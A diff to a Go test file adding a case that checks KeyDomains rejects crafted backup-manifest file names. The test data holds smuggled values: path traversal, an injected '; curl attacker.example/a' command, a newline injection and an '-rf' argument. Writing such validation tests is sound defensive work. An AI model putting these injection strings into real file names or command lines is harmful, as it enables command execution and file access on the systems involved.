@@ -120,6 +120,13 @@ func TestKeyDomains(t *testing.T) {
 	if got, want := strings.Join(m.KeyDomains(), " "), "autre.fr hub.example"; got != want {
 		t.Errorf("KeyDomains = %q, want %q", got, want)
 	}
+	// The manifest is the backup's word: names that are not domains are
+	// not given back to be printed in a command line.
+	evil := Manifest{Files: []string{"dkim/../../x.pem", "dkim/hub.example; curl attacker.example/a", "dkim/a\nrun it: x/k",
+		"dkim/-rf/k", "dkim/a..b/k", "dkim/xn--bcher-kva.example/k"}}
+	if got, want := strings.Join(evil.KeyDomains(), " "), "xn--bcher-kva.example"; got != want {
+		t.Errorf("KeyDomains of a crafted manifest = %q, want %q", got, want)
+	}
 	if got := (Manifest{Files: []string{"relais.db"}}).KeyDomains(); len(got) != 0 {
 		t.Errorf("KeyDomains without keys = %q", got)
 	}
